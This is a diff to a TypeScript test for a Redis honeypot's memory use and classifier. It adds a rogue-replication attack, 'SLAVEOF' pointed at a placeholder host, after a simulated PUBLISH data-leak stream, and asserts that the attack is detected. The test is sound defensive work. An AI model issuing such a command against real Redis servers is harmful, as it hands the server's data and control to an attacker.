@@ -215,10 +215,12 @@ describe("honeypot memory", () => {
     [],
     async (hp, file) => {
       const v = await Visitor.connect(hp.port);
-      // 300 commands of 32 arguments of 1 KB (10 MB), then 150 PUBLISH: a leak stream.
+      // 300 commands of 32 arguments of 1 KB (10 MB), then 150 PUBLISH: a leak stream, and a
+      // rogue master that padding in front would hide from a classifier that kept nothing.
       const args = Array.from({ length: 32 }, (_, i) => Buffer.alloc(1024, 0x41 + i));
       for (let c = 0; c < 300; c++) await v.send(cmd("EXISTS", ...args));
       for (let c = 0; c < 150; c++) await v.send(cmd("PUBLISH", "leak", Buffer.alloc(1024, 0x78)));
+      await v.send(cmd("SLAVEOF", "198.51.100.7", "8888"));
       await v.send(cmd("QUIT"));
       await v.closed;
       const rows = await stopAndRead(hp, file);
@@ -227,7 +229,7 @@ describe("honeypot memory", () => {
         classified_commands?: number;
         findings: Array<{ class: string; evidence: string[] }>;
       };
-      assert.equal(session.commands, 451);
+      assert.equal(session.commands, 452);
       const kept = record.classified_commands;
       assert.ok(kept !== undefined && kept * 32 * 1024 <= 2 * 1024 * 1024, `kept ${kept} commands`);
       const exfiltration = record.findings.find((f) => f.class === "exfiltration");
@@ -235,6 +237,7 @@ describe("honeypot memory", () => {
         exfiltration?.evidence.some((e) => e.startsWith("150 PUBLISH")),
         JSON.stringify(record.findings),
       );
+      assert.match(session.classes ?? "", /rogue_replication/);
     },
   );
 });
